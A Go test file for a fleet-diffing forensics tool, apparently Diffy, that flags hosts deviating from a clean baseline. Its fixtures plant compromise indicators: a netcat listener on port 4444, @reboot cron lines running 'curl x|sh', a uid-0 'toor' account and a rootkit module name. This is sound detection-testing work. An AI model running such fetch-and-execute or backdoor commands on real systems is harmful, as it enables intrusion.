package analyze_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"math/rand/v2"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/diffy-dfir/diffy/analyze"
	"github.com/diffy-dfir/diffy/collect"
	"github.com/diffy-dfir/diffy/diffyerr"
	"github.com/diffy-dfir/diffy/payload"
)

var t0 = time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC)

// testFleet builds the standard pack's Results for n hosts i-0000...
// that run the same software and differ only in volatile columns: every
// host has its own pids, parent pids, start times, socket inodes and
// kernel module addresses, drawn from rng. rowsPer sets how many
// processes (and other rows) each host has.
func testFleet(rng *rand.Rand, n, rowsPer int) [][]collect.Result {
	fleet := make([][]collect.Result, n)
	for h := range fleet {
		fleet[h] = hostResults(rng, fmt.Sprintf("i-%04d", h), rowsPer)
	}
	return fleet
}

// hostResults is one host of testFleet.
func hostResults(rng *rand.Rand, id string, rowsPer int) []collect.Result {
	pid := func() string { return strconv.Itoa(1 + rng.IntN(4_000_000)) }
	when := func() string { return strconv.FormatInt(t0.Unix()-int64(rng.IntN(1_000_000)), 10) }
	var ports, procs, crons, mods, users, keys []collect.Row
	for i := range rowsPer {
		name := fmt.Sprintf("svc%02d", i)
		p := pid()
		procs = append(procs, collect.Row{"pid": p, "name": name, "path": "/usr/bin/" + name,
			"cmdline": "/usr/bin/" + name + " --serve", "uid": "0", "parent": pid(), "start_time": when()})
		if i%3 == 0 {
			ports = append(ports, collect.Row{"address": "0.0.0.0", "port": strconv.Itoa(8000 + i), "protocol": "6",
				"name": name, "path": "/usr/bin/" + name, "cmdline": "/usr/bin/" + name + " --serve", "pid": p,
				"fd": strconv.Itoa(3 + rng.IntN(60)), "socket": strconv.Itoa(rng.IntN(1 << 30))})
		}
		crons = append(crons, collect.Row{"event": "", "minute": strconv.Itoa(i % 60), "hour": "*", "day_of_month": "*",
			"month": "*", "day_of_week": "*", "command": "/usr/bin/" + name + " --rotate", "path": "/etc/crontab"})
		mods = append(mods, collect.Row{"name": fmt.Sprintf("mod%02d", i), "size": strconv.Itoa(16384 + i*4096 + rng.IntN(2)*4096),
			"used_by": "-", "status": "Live", "address": fmt.Sprintf("0xffffffffc%07x", rng.IntN(1<<28))})
		users = append(users, collect.Row{"uid": strconv.Itoa(1000 + i), "gid": strconv.Itoa(1000 + i), "username": "user" + strconv.Itoa(i),
			"description": "", "directory": "/home/user" + strconv.Itoa(i), "shell": "/bin/bash"})
		if i < 2 {
			keys = append(keys, collect.Row{"username": "user" + strconv.Itoa(i), "algorithm": "ssh-ed25519",
				"key": "AAAAC3NzaC1lZDI1NTE5AAAAI" + strconv.Itoa(i), "key_file": "/home/user" + strconv.Itoa(i) + "/.ssh/authorized_keys"})
		}
	}
	// Rows come in any order: a positional diff would see them all move.
	for _, rows := range [][]collect.Row{ports, procs, crons, mods, users, keys} {
		rng.Shuffle(len(rows), func(i, j int) { rows[i], rows[j] = rows[j], rows[i] })
	}
	out := make([]collect.Result, 0, 6)
	for _, c := range []struct {
		id   string
		rows []collect.Row
	}{{payload.ListeningPorts, ports}, {payload.Processes, procs}, {payload.Crontab, crons},
		{payload.KernelModules, mods}, {payload.Users, users}, {payload.AuthorizedKeys, keys}} {
		out = append(out, collect.Result{InstanceID: id, CommandID: c.id, Status: collect.StatusSuccess,
			CollectedAt: t0, Rows: c.rows, ExitCode: 0})
	}
	return out
}

// flatten joins the hosts' Results into one slice, shuffled so that no
// analyzer can rely on their order.
func flatten(rng *rand.Rand, fleet [][]collect.Result) []collect.Result {
	var all []collect.Result
	for _, rs := range fleet {
		all = append(all, rs...)
	}
	rng.Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })
	return all
}

// baselineOf returns the Results of a clean baseline host named id: the
// same software as testFleet's hosts, with volatile values of its own.
func baselineOf(rng *rand.Rand, id string, rowsPer int) []collect.Result {
	return hostResults(rng, id, rowsPer)
}

// resultOf returns the Results of command id among rs.
func resultOf(rs []collect.Result, id string) *collect.Result {
	for i := range rs {
		if rs[i].CommandID == id {
			return &rs[i]
		}
	}
	panic("no result for " + id)
}

func analyzeOK(t *testing.T, a analyze.Analyzer, in analyze.Input) *analyze.Report {
	t.Helper()
	rep, err := a.Analyze(context.Background(), in)
	if err != nil {
		t.Fatalf("Analyze: %v", err)
	}
	return rep
}

// checkHostsOnce checks that rep has each of want exactly once, sorted, with
// non-nil Findings.
func checkHostsOnce(t *testing.T, rep *analyze.Report, want []string) {
	t.Helper()
	var got []string
	for _, h := range rep.Hosts {
		got = append(got, h.InstanceID)
		if h.Findings == nil {
			t.Errorf("host %s: Findings is nil, want an empty list", h.InstanceID)
		}
	}
	want = slices.Sorted(slices.Values(want))
	if !slices.Equal(got, want) {
		t.Fatalf("report hosts = %v, want each of %v once, sorted", got, want)
	}
}

func hostIDs(fleet [][]collect.Result) []string {
	var ids []string
	for _, rs := range fleet {
		ids = append(ids, rs[0].InstanceID)
	}
	return ids
}

func TestBaselineVolatileOnlyNoOutlier(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	fleet := testFleet(rng, 60, 25)
	base := baselineOf(rng, "i-clean", 25)
	rep := analyzeOK(t, analyze.Baseline{}, analyze.Input{Key: "asg", Results: flatten(rng, fleet), Baseline: base})
	checkHostsOnce(t, rep, hostIDs(fleet))
	if out := rep.Outliers(); len(out) != 0 {
		t.Fatalf("hosts that differ only in volatile columns: %d outliers, first %s with %v",
			len(out), out[0].InstanceID, out[0].Findings[0])
	}
	for _, h := range rep.Hosts {
		if h.Score != 0 || len(h.Errors) != 0 || len(h.Findings) != 0 {
			t.Errorf("host %s: score %v, errors %v, findings %v; want none", h.InstanceID, h.Score, h.Errors, h.Findings)
		}
	}
	if rep.Analyzer != "baseline" || rep.Key != "asg" || rep.BaselineInstance != "i-clean" {
		t.Errorf("report analyzer/key/baseline = %q/%q/%q", rep.Analyzer, rep.Key, rep.BaselineInstance)
	}
	if len(rep.Notes) != 0 {
		t.Errorf("notes on a clean comparison: %q", rep.Notes)
	}
}

func TestBaselineWithoutVolatileEveryHostDiffers(t *testing.T) {
	// The original's failure, reproduced on purpose: comparing pids and
	// start times makes every host different. The defaults are what fix it.
	rng := rand.New(rand.NewPCG(3, 4))
	fleet := testFleet(rng, 10, 10)
	base := baselineOf(rng, "i-clean", 10)
	rep := analyzeOK(t, analyze.Baseline{Volatile: analyze.Volatile{}}, analyze.Input{Results: flatten(rng, fleet), Baseline: base})
	if got := len(rep.Outliers()); got != 10 {
		t.Fatalf("with no volatile columns dropped: %d outliers, want all 10", got)
	}
}

var backdoor = collect.Row{"address": "0.0.0.0", "port": "4444", "protocol": "6", "name": "nc",
	"path": "/usr/bin/nc", "cmdline": "nc -lp 4444", "pid": "31337", "fd": "3", "socket": "99"}

func TestBaselineExtraListeningPort(t *testing.T) {
	rng := rand.New(rand.NewPCG(5, 6))
	fleet := testFleet(rng, 40, 25)
	for _, h := range []int{7, 23} {
		r := resultOf(fleet[h], payload.ListeningPorts)
		r.Rows = append(r.Rows, backdoor)
	}
	// Host 23 runs it under another pid: still the same row.
	resultOf(fleet[23], payload.ListeningPorts).Rows[len(resultOf(fleet[23], payload.ListeningPorts).Rows)-1] =
		collect.Row{"address": "0.0.0.0", "port": "4444", "protocol": "6", "name": "nc",
			"path": "/usr/bin/nc", "cmdline": "nc -lp 4444", "pid": "4242", "fd": "5", "socket": "123"}
	base := baselineOf(rng, "i-clean", 25)
	rep := analyzeOK(t, analyze.Baseline{}, analyze.Input{Key: "asg", Results: flatten(rng, fleet), Baseline: base})
	checkHostsOnce(t, rep, hostIDs(fleet))

	var outliers []string
	for _, h := range rep.Outliers() {
		outliers = append(outliers, h.InstanceID)
	}
	if !slices.Equal(outliers, []string{"i-0007", "i-0023"}) {
		t.Fatalf("outliers = %v, want [i-0007 i-0023]", outliers)
	}
	want := analyze.Finding{
		CommandID: payload.ListeningPorts, Kind: analyze.KindAdded,
		Row:          collect.Row{"address": "0.0.0.0", "port": "4444", "protocol": "6", "name": "nc", "path": "/usr/bin/nc", "cmdline": "nc -lp 4444"},
		HostsWithRow: 2, Prevalence: 2.0 / 40,
	}
	for _, h := range rep.Outliers() {
		if len(h.Findings) != 1 || !reflect.DeepEqual(h.Findings[0], want) {
			t.Errorf("host %s findings = %+v, want only %+v", h.InstanceID, h.Findings, want)
		}
		if h.Score != 1 {
			t.Errorf("host %s score = %v, want 1 (one finding)", h.InstanceID, h.Score)
		}
	}
}

func TestBaselineRemovedRows(t *testing.T) {
	rng := rand.New(rand.NewPCG(7, 8))
	fleet := testFleet(rng, 20, 12)
	base := baselineOf(rng, "i-clean", 12)
	// Host 4 lost a crontab line and an authorized key; host 9 lost the
	// same crontab line.
	var lostCron collect.Row
	for _, h := range []int{4, 9} {
		r := resultOf(fleet[h], payload.Crontab)
		i := slices.IndexFunc(r.Rows, func(row collect.Row) bool { return row["command"] == "/usr/bin/svc05 --rotate" })
		lostCron = r.Rows[i]
		r.Rows = slices.Delete(r.Rows, i, i+1)
	}
	k := resultOf(fleet[4], payload.AuthorizedKeys)
	lostKey := k.Rows[0]
	k.Rows = k.Rows[1:]
	rep := analyzeOK(t, analyze.Baseline{}, analyze.Input{Results: flatten(rng, fleet), Baseline: base})
	checkHostsOnce(t, rep, hostIDs(fleet))
	h4 := rep.Hosts[4]
	want := []analyze.Finding{
		{CommandID: payload.AuthorizedKeys, Kind: analyze.KindRemoved, Row: lostKey, HostsWithRow: 19, Prevalence: 19.0 / 20},
		{CommandID: payload.Crontab, Kind: analyze.KindRemoved, Row: lostCron, HostsWithRow: 18, Prevalence: 18.0 / 20},
	}
	if !h4.Outlier || !reflect.DeepEqual(h4.Findings, want) {
		t.Fatalf("host i-0004: outlier %v findings %+v, want %+v", h4.Outlier, h4.Findings, want)
	}
	if h9 := rep.Hosts[9]; !h9.Outlier || len(h9.Findings) != 1 || h9.Findings[0].Kind != analyze.KindRemoved {
		t.Fatalf("host i-0009: %+v", h9)
	}
	if got := len(rep.Outliers()); got != 2 {
		t.Errorf("%d outliers, want 2", got)
	}
}

func TestBaselineFindingOrder(t *testing.T) {
	rng := rand.New(rand.NewPCG(9, 10))
	fleet := testFleet(rng, 3, 6)
	base := baselineOf(rng, "i-clean", 6)
	h := fleet[1]
	resultOf(h, payload.Users).Rows = append(resultOf(h, payload.Users).Rows,
		collect.Row{"uid": "0", "gid": "0", "username": "toor", "description": "", "directory": "/root", "shell": "/bin/sh"})
	resultOf(h, payload.Crontab).Rows = append(resultOf(h, payload.Crontab).Rows,
		collect.Row{"event": "@reboot", "minute": "", "hour": "", "day_of_month": "", "month": "", "day_of_week": "", "command": "curl x|sh", "path": "/etc/cron.d/x"},
		collect.Row{"event": "@reboot", "minute": "", "hour": "", "day_of_month": "", "month": "", "day_of_week": "", "command": "curl y|sh", "path": "/etc/cron.d/y"})
	ps := resultOf(h, payload.Processes)
	ps.Rows = ps.Rows[1:]
	mods := resultOf(h, payload.KernelModules)
	mods.Rows = mods.Rows[1:]
	rep := analyzeOK(t, analyze.Baseline{}, analyze.Input{Results: flatten(rng, fleet), Baseline: base})
	var got []string
	for _, f := range rep.Hosts[1].Findings {
		got = append(got, f.Kind+" "+f.CommandID)
	}
	want := []string{"added crontab", "added crontab", "added users", "removed kernel_modules", "removed processes"}
	if !slices.Equal(got, want) {
		t.Fatalf("finding order = %q, want %q", got, want)
	}
	fs := rep.Hosts[1].Findings
	if analyze.RowKey(fs[0].Row) >= analyze.RowKey(fs[1].Row) {
		t.Errorf("findings of one kind and command are not in RowKey order: %v then %v", fs[0].Row, fs[1].Row)
	}
	// Deterministic: the same input in another order gives the same report.
	again := analyzeOK(t, analyze.Baseline{}, analyze.Input{Results: flatten(rng, fleet), Baseline: base})
	if !reflect.DeepEqual(rep.Hosts, again.Hosts) {
		t.Error("the same Results in another order gave other hosts or findings")
	}
}

func TestBaselineDuplicateRowsCountOnce(t *testing.T) {
	rng := rand.New(rand.NewPCG(11, 12))
	fleet := testFleet(rng, 4, 5)
	base := baselineOf(rng, "i-clean", 5)
	// Host 2 runs a second worker of svc01: same row after dropping pids.
	ps := resultOf(fleet[2], payload.Processes)
	i := slices.IndexFunc(ps.Rows, func(r collect.Row) bool { return r["name"] == "svc01" })
	dup := collect.Row{}
	for k, v := range ps.Rows[i] {
		dup[k] = v
	}
	dup["pid"], dup["parent"], dup["start_time"] = "77777", "1", "1"
	ps.Rows = append(ps.Rows, dup)
	rep := analyzeOK(t, analyze.Baseline{}, analyze.Input{Results: flatten(rng, fleet), Baseline: base})
	if out := rep.Outliers(); len(out) != 0 {
		t.Fatalf("a duplicate of a baseline row made %d outliers: %+v", len(out), out[0].Findings)
	}
}

func TestBaselineFailedResults(t *testing.T) {
	rng := rand.New(rand.NewPCG(13, 14))
	fleet := testFleet(rng, 6, 8)
	base := baselineOf(rng, "i-clean", 8)

	// Host 1: processes failed (its rows, if any, must not be used).
	p := resultOf(fleet[1], payload.Processes)
	p.Status, p.ExitCode, p.Error, p.Stderr = collect.StatusFailed, 1, "command processes exited with status 1: boom", "boom"
	p.Rows = append(p.Rows, collect.Row{"name": "evil"})
	// Host 2: listening_ports truncated by SSM's limit.
	lp := resultOf(fleet[2], payload.ListeningPorts)
	lp.Status, lp.Truncated, lp.Rows = collect.StatusFailed, true, nil
	lp.Error = "command listening_ports: output truncated, not parsed: SSM returns only the first 24,000 characters"
	// Host 3: undeliverable everywhere.
	for i := range fleet[3] {
		r := &fleet[3][i]
		r.Status, r.StatusDetails, r.Rows, r.ExitCode, r.Error = collect.StatusUndeliverable, "Undeliverable", nil, -1, "instance not managed by SSM"
	}
	// Host 4: no users result at all.
	fleet[4] = slices.DeleteFunc(fleet[4], func(r collect.Result) bool { return r.CommandID == payload.Users })
	// The baseline's kernel_modules failed: not comparable anywhere, even
	// on host 5 which has a rootkit module.
	km := resultOf(base, payload.KernelModules)
	km.Status, km.ExitCode, km.Error, km.Rows = collect.StatusFailed, 1, "command kernel_modules exited with status 1: no /proc/modules", nil
	mods := resultOf(fleet[5], payload.KernelModules)
	mods.Rows = append(mods.Rows, collect.Row{"name": "diamorphine", "size": "16384", "used_by": "-", "status": "Live", "address": "0x0"})

	rep := analyzeOK(t, analyze.Baseline{}, analyze.Input{Results: flatten(rng, fleet), Baseline: base})
	checkHostsOnce(t, rep, hostIDs(fleet))
	if out := rep.Outliers(); len(out) != 0 {
		t.Fatalf("failed Results gave %d outliers; first %s: %+v", len(out), out[0].InstanceID, out[0].Findings)
	}
	wantErrs := map[int][]string{
		1: {"processes: Failed: command processes exited with status 1: boom"},
		2: {"listening_ports: Failed (truncated): command listening_ports: output truncated, not parsed: SSM returns only the first 24,000 characters"},
		4: {"users: missing: no result for this command"},
	}
	for _, id := range []string{payload.AuthorizedKeys, payload.Crontab, payload.KernelModules, payload.ListeningPorts, payload.Processes, payload.Users} {
		wantErrs[3] = append(wantErrs[3], id+": Undeliverable: instance not managed by SSM")
	}
	for h, host := range rep.Hosts {
		if !slices.Equal(host.Errors, wantErrs[h]) {
			t.Errorf("host %s errors = %q, want %q", host.InstanceID, host.Errors, wantErrs[h])
		}
	}
	notes := strings.Join(rep.Notes, "\n")
	for _, want := range []string{"kernel_modules did not succeed on the baseline instance i-clean", "no /proc/modules",
		"4 of 6 hosts have commands that could not be compared (see their errors); their other commands were compared"} {
		if !strings.Contains(notes, want) {
			t.Errorf("notes %q do not say %q", rep.Notes, want)
		}
	}
}

func TestBaselineCommandNotInBaseline(t *testing.T) {
	rng := rand.New(rand.NewPCG(15, 16))
	fleet := testFleet(rng, 3, 4)
	base := baselineOf(rng, "i-clean", 4)
	base = slices.DeleteFunc(base, func(r collect.Result) bool { return r.CommandID == payload.Crontab })
	resultOf(fleet[0], payload.Crontab).Rows = append(resultOf(fleet[0], payload.Crontab).Rows, collect.Row{"command": "evil"})
	rep := analyzeOK(t, analyze.Baseline{}, analyze.Input{Results: flatten(rng, fleet), Baseline: base})
	if len(rep.Outliers()) != 0 {
		t.Fatalf("a command the baseline lacks was compared: %+v", rep.Outliers())
	}
	if len(rep.Notes) != 1 || !strings.Contains(rep.Notes[0], "crontab is not in the baseline") || !strings.Contains(rep.Notes[0], "3 hosts") {
		t.Fatalf("notes = %q, want one saying crontab is not in the baseline and was not compared on 3 hosts", rep.Notes)
	}
}

func TestBaselineIgnoreCommands(t *testing.T) {
	rng := rand.New(rand.NewPCG(17, 18))
	fleet := testFleet(rng, 3, 4)
	base := baselineOf(rng, "i-clean", 4)
	resultOf(fleet[2], payload.Processes).Rows = append(resultOf(fleet[2], payload.Processes).Rows, collect.Row{"name": "odd"})
	resultOf(fleet[1], payload.Users).Status = collect.StatusFailed
	rep := analyzeOK(t, analyze.Baseline{IgnoreCommands: []string{payload.Processes, payload.Users}},
		analyze.Input{Results: flatten(rng, fleet), Baseline: base})
	for _, h := range rep.Hosts {
		if h.Outlier || len(h.Errors) != 0 {
			t.Errorf("host %s: outlier %v, errors %q; ignored commands must not count", h.InstanceID, h.Outlier, h.Errors)
		}
	}
}

func TestBaselineOriginalFormat(t *testing.T) {
	// The original Diffy's files: no command_id, stdout as a string of
	// JSON, times without a zone.
	file := func(id, pid, port string) string {
		rows := fmt.Sprintf(`[{"address":"0.0.0.0","port":"22","pid":"%s"},{"address":"0.0.0.0","port":"%s","pid":"9"}]`, pid, port)
		b, _ := json.Marshal(rows)
		return fmt.Sprintf(`{"instance_id":"%s","status":"Success","collected_at":"2018-01-01 10:00:00.123456","stdout":%s}`, id, b)
	}
	var results, base []collect.Result
	for _, doc := range []string{file("i-a", "100", "80"), file("i-b", "200", "80"), file("i-c", "300", "4444")} {
		var r collect.Result
		if err := json.Unmarshal([]byte(doc), &r); err != nil {
			t.Fatal(err)
		}
		results = append(results, r)
	}
	var b collect.Result
	if err := json.Unmarshal([]byte(file("i-base", "1", "80")), &b); err != nil {
		t.Fatal(err)
	}
	base = append(base, b)
	rep := analyzeOK(t, analyze.Baseline{}, analyze.Input{Results: results, Baseline: base})
	checkHostsOnce(t, rep, []string{"i-a", "i-b", "i-c"})
	out := rep.Outliers()
	if len(out) != 1 || out[0].InstanceID != "i-c" {
		t.Fatalf("outliers = %+v, want i-c only", out)
	}
	want := []analyze.Finding{
		{CommandID: "", Kind: analyze.KindAdded, Row: collect.Row{"address": "0.0.0.0", "port": "4444"}, HostsWithRow: 1, Prevalence: 1.0 / 3},
		{CommandID: "", Kind: analyze.KindRemoved, Row: collect.Row{"address": "0.0.0.0", "port": "80"}, HostsWithRow: 2, Prevalence: 2.0 / 3},
	}
	if !reflect.DeepEqual(out[0].Findings, want) {
		t.Fatalf("findings = %+v, want %+v", out[0].Findings, want)
	}
}

func TestBaselineErrors(t *testing.T) {
	ctx := context.Background()
	rng := rand.New(rand.NewPCG(19, 20))
	results := flatten(rng, testFleet(rng, 2, 3))
	_, err := analyze.Baseline{}.Analyze(ctx, analyze.Input{Key: "web", Results: results})
	if !errors.Is(err, diffyerr.ErrNoBaseline) || !strings.Contains(err.Error(), `"web"`) {
		t.Errorf("no baseline: err = %v, want ErrNoBaseline naming the key", err)
	}
	noID := []collect.Result{{CommandID: payload.Users, Status: collect.StatusSuccess}}
	_, err = analyze.Baseline{}.Analyze(ctx, analyze.Input{Key: "web", Results: results, Baseline: noID})
	if !errors.Is(err, diffyerr.ErrNoBaseline) {
		t.Errorf("baseline without an instance ID: err = %v, want ErrNoBaseline", err)
	}
	cctx, cancel := context.WithCancel(ctx)
	cancel()
	_, err = analyze.Baseline{}.Analyze(cctx, analyze.Input{Results: results, Baseline: baselineOf(rng, "i-x", 3)})
	if !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled ctx: err = %v, want context.Canceled", err)
	}
}

func TestBaselineSkippedAndNoID(t *testing.T) {
	rng := rand.New(rand.NewPCG(21, 22))
	fleet := testFleet(rng, 2, 3)
	results := append(flatten(rng, fleet), collect.Result{CommandID: payload.Users, Status: collect.StatusSuccess})
	skipped := []analyze.Skip{{Source: "bad.json", Reason: "not JSON"}}
	rep := analyzeOK(t, analyze.Baseline{}, analyze.Input{Results: results, Baseline: baselineOf(rng, "b", 3), Skipped: skipped})
	checkHostsOnce(t, rep, hostIDs(fleet))
	if len(rep.Skipped) != 2 || rep.Skipped[0] != skipped[0] || !strings.Contains(rep.Skipped[1].Reason, "no instance_id") {
		t.Fatalf("skipped = %+v, want bad.json then the result without instance_id", rep.Skipped)
	}
}

func TestBaselineEmptyResults(t *testing.T) {
	rng := rand.New(rand.NewPCG(23, 24))
	rep := analyzeOK(t, analyze.Baseline{}, analyze.Input{Baseline: baselineOf(rng, "b", 3)})
	if rep.Hosts == nil || len(rep.Hosts) != 0 {
		t.Fatalf("no results: hosts = %#v, want an empty list", rep.Hosts)
	}
	b, err := json.Marshal(rep)
	if err != nil || !strings.Contains(string(b), `"hosts":[]`) {
		t.Fatalf("JSON of an empty report = %s, %v; want \"hosts\":[]", b, err)
	}
}

func TestBaselineDoesNotModifyInput(t *testing.T) {
	rng := rand.New(rand.NewPCG(25, 26))
	fleet := testFleet(rng, 5, 6)
	resultOf(fleet[3], payload.ListeningPorts).Rows = append(resultOf(fleet[3], payload.ListeningPorts).Rows, backdoor)
	results := flatten(rng, fleet)
	base := baselineOf(rng, "b", 6)
	snapshot := func() []byte {
		b, err := json.Marshal([]any{results, base})
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	before := snapshot()
	rep := analyzeOK(t, analyze.Baseline{}, analyze.Input{Results: results, Baseline: base})
	if after := snapshot(); string(before) != string(after) {
		t.Fatal("Analyze changed its input")
	}
	// The finding's row is a stripped copy, not the host's row.
	f := rep.Hosts[3].Findings[0]
	if _, ok := f.Row["pid"]; ok {
		t.Fatalf("finding row keeps the volatile pid: %v", f.Row)
	}
	if _, ok := backdoor["pid"]; !ok {
		t.Fatal("the host's row lost its pid")
	}
}

func TestBaselineConcurrentUse(t *testing.T) {
	rng := rand.New(rand.NewPCG(27, 28))
	fleet := testFleet(rng, 30, 8)
	resultOf(fleet[11], payload.ListeningPorts).Rows = append(resultOf(fleet[11], payload.ListeningPorts).Rows, backdoor)
	in := analyze.Input{Results: flatten(rng, fleet), Baseline: baselineOf(rng, "b", 8)}
	a := analyze.Baseline{}
	want := analyzeOK(t, a, in)
	errs := make(chan error, 4)
	for range 4 {
		go func() {
			rep, err := a.Analyze(context.Background(), in)
			if err == nil && !reflect.DeepEqual(rep.Hosts, want.Hosts) {
				err = errors.New("concurrent Analyze gave another report")
			}
			errs <- err
		}()
	}
	for range 4 {
		if err := <-errs; err != nil {
			t.Error(err)
		}
	}
}

func TestBaselineNow(t *testing.T) {
	rng := rand.New(rand.NewPCG(29, 30))
	at := time.Date(2026, 1, 2, 3, 4, 5, 0, time.FixedZone("x", 3600))
	rep := analyzeOK(t, analyze.Baseline{Now: func() time.Time { return at }},
		analyze.Input{Results: flatten(rng, testFleet(rng, 1, 2)), Baseline: baselineOf(rng, "b", 2)})
	if !rep.CreatedAt.Equal(at) || rep.CreatedAt.Location() != time.UTC {
		t.Fatalf("CreatedAt = %v, want %v in UTC", rep.CreatedAt, at)
	}
	if !(analyze.Baseline{}).NeedsBaseline() {
		t.Fatal("Baseline.NeedsBaseline() = false")
	}
}

// BenchmarkBaseline10k analyzes 10,000 hosts of the standard pack (6
// commands, about 25 rows each, volatile columns all different), 1% of
// them with an extra listening port. The Results are built before the
// timer starts. Besides wall time it reports cpu-ms/op, the process's CPU
// time (all threads, GC included) per analysis: on a shared machine the
// steadier figure.
func BenchmarkBaseline10k(b *testing.B) {
	rng := rand.New(rand.NewPCG(31, 32))
	fleet := testFleet(rng, 10_000, 25)
	for h := 0; h < len(fleet); h += 100 {
		r := resultOf(fleet[h], payload.ListeningPorts)
		r.Rows = append(r.Rows, backdoor)
	}
	in := analyze.Input{Key: "bench", Results: flatten(rng, fleet), Baseline: baselineOf(rng, "b", 25)}
	rows := 0
	for _, r := range in.Results {
		rows += len(r.Rows)
	}
	b.ReportAllocs()
	cpu := cpuTime()
	for b.Loop() {
		rep, err := analyze.Baseline{}.Analyze(context.Background(), in)
		if err != nil {
			b.Fatal(err)
		}
		if got := len(rep.Outliers()); got != 100 {
			b.Fatalf("%d outliers, want 100", got)
		}
	}
	b.ReportMetric(float64(cpuTime()-cpu)/float64(b.N)/1e6, "cpu-ms/op")
	b.ReportMetric(float64(rows), "rows")
}

func TestBaselineSeveralResultsPerCommand(t *testing.T) {
	// Two Results of one (host, command) collected at the same time: their
	// rows form one set, and a failed one is still reported.
	rng := rand.New(rand.NewPCG(33, 34))
	fleet := testFleet(rng, 3, 6)
	base := baselineOf(rng, "i-clean", 6)
	ports := resultOf(fleet[1], payload.ListeningPorts)
	half := len(ports.Rows) / 2
	second := *ports
	second.Rows = ports.Rows[half:]
	ports.Rows = ports.Rows[:half]
	failed := collect.Result{InstanceID: "i-0001", CommandID: payload.ListeningPorts, Status: collect.StatusTimedOut, Error: "timed out", CollectedAt: t0}
	fleet[1] = append(fleet[1], second, failed)
	// The baseline too has a failed Result beside its good one.
	base = append(base, collect.Result{InstanceID: "i-clean", CommandID: payload.Users, Status: collect.StatusFailed, Error: "boom", CollectedAt: t0})

	rep := analyzeOK(t, analyze.Baseline{}, analyze.Input{Results: flatten(rng, fleet), Baseline: base})
	checkHostsOnce(t, rep, hostIDs(fleet))
	if out := rep.Outliers(); len(out) != 0 {
		t.Fatalf("split Results made outliers: %+v", out)
	}
	if got, want := rep.Hosts[1].Errors, []string{"listening_ports: TimedOut: timed out"}; !slices.Equal(got, want) {
		t.Errorf("host i-0001 errors = %q, want %q", got, want)
	}
	notes := strings.Join(rep.Notes, "\n")
	if !strings.Contains(notes, "users has failed Results in the baseline beside successful ones (users: Failed: boom)") {
		t.Errorf("notes %q do not mention the baseline's failed users Result", rep.Notes)
	}
}

// tokenHost is one host whose command lines and paths carry its own
// instance ID, address and UUID, as real fleets' do.
func tokenHost(id string, n int) []collect.Result {
	ip := fmt.Sprintf("10.0.%d.%d", n/250, n%250+1)
	uuid := fmt.Sprintf("%08x-1111-4222-8333-%012x", n*7919, n*104729)
	procs := []collect.Row{
		{"pid": strconv.Itoa(100 + n), "name": "agent", "path": "/opt/agent/bin/agent", "uid": "0",
			"cmdline": "/opt/agent/bin/agent --instance " + id + " --bind " + ip + " --run " + uuid},
		{"pid": strconv.Itoa(200 + n), "name": "nginx", "path": "/usr/sbin/nginx", "uid": "33", "cmdline": "nginx: worker process"},
	}
	ports := []collect.Row{{"address": ip, "port": "8080", "protocol": "6", "name": "agent",
		"path": "/opt/agent/bin/agent", "cmdline": procs[0]["cmdline"], "pid": procs[0]["pid"]}}
	return []collect.Result{
		{InstanceID: id, CommandID: payload.Processes, Status: collect.StatusSuccess, CollectedAt: t0, Rows: procs},
		{InstanceID: id, CommandID: payload.ListeningPorts, Status: collect.StatusSuccess, CollectedAt: t0, Rows: ports},
	}
}

func TestBaselineNormalizesPerHostTokens(t *testing.T) {
	var all []collect.Result
	var ids []string
	for n := range 30 {
		id := fmt.Sprintf("i-0%016x", 0xabc000+n)
		ids = append(ids, id)
		all = append(all, tokenHost(id, n)...)
	}
	// One host also runs a listener the baseline does not have.
	all = append(all, collect.Result{InstanceID: ids[7], CommandID: payload.ListeningPorts, Status: collect.StatusSuccess,
		CollectedAt: t0, Rows: []collect.Row{backdoor}})
	base := tokenHost("i-0ffffffffffffffff", 999)

	rep := analyzeOK(t, analyze.Baseline{}, analyze.Input{Key: "asg", Results: all, Baseline: base})
	checkHostsOnce(t, rep, ids)
	out := rep.Outliers()
	if len(out) != 1 || out[0].InstanceID != ids[7] {
		t.Fatalf("outliers = %v, want only %s: hosts differing only by their own tokens must not be outliers", out, ids[7])
	}
	if f := out[0].Findings; len(f) != 1 || f[0].Kind != analyze.KindAdded || f[0].Row["port"] != "4444" {
		t.Fatalf("findings of %s = %v, want the one added listener on 4444", ids[7], f)
	}

	// With KeepTokens the rows are compared as collected: every host differs.
	raw := analyzeOK(t, analyze.Baseline{KeepTokens: true}, analyze.Input{Key: "asg", Results: all, Baseline: base})
	if got := len(raw.Outliers()); got != len(ids) {
		t.Fatalf("KeepTokens: %d outliers, want all %d hosts", got, len(ids))
	}
}
